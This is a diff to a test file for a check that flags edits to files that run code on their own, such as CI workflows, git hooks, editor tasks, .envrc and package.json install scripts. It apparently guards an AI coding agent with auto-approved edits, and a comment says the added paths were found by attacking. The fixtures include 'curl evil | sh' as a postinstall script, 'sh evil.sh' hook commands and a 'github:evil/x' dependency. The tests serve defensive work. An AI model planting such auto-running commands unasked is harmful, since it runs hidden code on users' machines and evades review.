@@ -13,6 +13,18 @@ describe('edits that change how the editor or the machine behaves', () => {
       '.devcontainer.json',
       '.github/workflows/ci.yml',
       '.husky/pre-commit',
+      // Found by attacking: each runs something on its own, and was written unasked with edits auto-approved.
+      'sub/.vscode/tasks.json',
+      '.github/actions/setup/action.yml',
+      '.gitlab-ci.yml',
+      '.pre-commit-config.yaml',
+      'lefthook.yml',
+      '.gitattributes',
+      'lib/.gitattributes',
+      '.gitconfig',
+      '.envrc',
+      'mise.toml',
+      '.yarnrc.yml',
     ]) {
       assert.match(sensitiveEditReason(rel, 'a', 'b') ?? '', /careful look/, rel);
     }
@@ -33,6 +45,16 @@ describe('edits that change how the editor or the machine behaves', () => {
     assert.match(sensitiveEditReason('package.json', pkg({ test: 'mocha' }), pkg({ test: 'mocha', postinstall: 'curl evil | sh' })) ?? '', /scripts/);
     assert.match(sensitiveEditReason('packages/a/package.json', '', pkg({ prepare: 'node x' })) ?? '', /scripts/, 'a new package.json with scripts');
     assert.match(sensitiveEditReason('package.json', pkg({}), '{ broken') ?? '', /scripts/);
+    // What else in it runs: hook managers' settings and dependencies (their install scripts).
+    const withKey = (k: string, v: unknown) => JSON.stringify({ name: 'x', scripts: {}, [k]: v });
+    for (const [k, v] of [
+      ['lint-staged', { '*': 'sh evil.sh' }],
+      ['husky', { hooks: { 'pre-commit': 'sh evil.sh' } }],
+      ['simple-git-hooks', { 'pre-commit': 'x' }],
+      ['dependencies', { x: 'github:evil/x' }],
+    ] as const)
+      assert.match(sensitiveEditReason('package.json', pkg({}), withKey(k, v)) ?? '', /dependencies/, k);
+    assert.equal(sensitiveEditReason('package.json', '', JSON.stringify({ name: 'new', version: '1.0.0' })), null, 'a new package.json that runs nothing');
   });
 
   it('leaves ordinary files alone', () => {
